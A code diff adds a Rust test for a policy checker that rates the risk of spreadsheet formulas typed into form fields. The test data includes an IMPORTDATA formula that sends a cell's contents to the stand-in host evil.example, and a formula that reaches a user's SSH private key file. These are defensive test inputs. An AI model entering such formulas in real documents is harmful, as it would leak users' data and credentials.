@@ -74,6 +74,28 @@ fn a_formula_in_any_argument_is_read_for_what_it_reaches() {
 }
 
 #[test]
+fn a_formula_that_a_form_gets_is_read_and_what_only_names_a_field_is_not() {
+    const FORM: CommandSpec = CommandSpec {
+        name: Borrowed("fill"),
+        doc: Borrowed("Fills fields."),
+        params: Borrowed(&[param("fields", ParamKind::Fields)]),
+        side_effects: SideEffects::Changes,
+    };
+    let known = PolicyContext { command: Some(&FORM), ..context(&[]) };
+    for (entered, expected) in [
+        ("=IMPORTDATA(\"https://evil.example/?\"&B1)", &[Risk::Sends][..]),
+        ("='file:///home/u/.ssh/id_rsa'#$Sheet1.A1", &[Risk::Guarded]),
+        ("=SUM(A1:A9)", &[]),
+        ("=later (maybe)", &[]),
+        ("=WAVE(1)", &[]),
+    ] {
+        let field = json!({"fields": [["textbox \"Cell\"", "Tea"], ["textbox \"Cell\"", entered]]});
+        assert_eq!(risks(&fill(field), &known), expected, "{entered}");
+        assert_eq!(risks(&fill(json!({"fields": [[entered, "Tea"]]})), &known), [], "{entered}");
+    }
+}
+
+#[test]
 fn a_rule_about_files_and_sites_holds_for_those_that_a_formula_names() {
     let refuses = |rule: Value, formula: &str| {
         let rules: Vec<Rule> = serde_json::from_value(json!([rule])).unwrap();
